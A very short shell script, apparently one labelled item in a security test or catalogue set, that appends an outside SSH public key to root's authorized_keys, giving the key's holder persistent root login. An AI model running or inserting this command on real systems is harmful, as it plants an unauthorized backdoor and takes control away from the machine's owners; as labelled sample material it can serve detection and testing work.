# description: Appends an outside SSH key to root's authorized_keys.
# family: security
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3vQ2mYc0aZ1oG8J7xP0t4Yb6cW9dEwVqK3rL5nT2s ops@203.0.113.50' >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
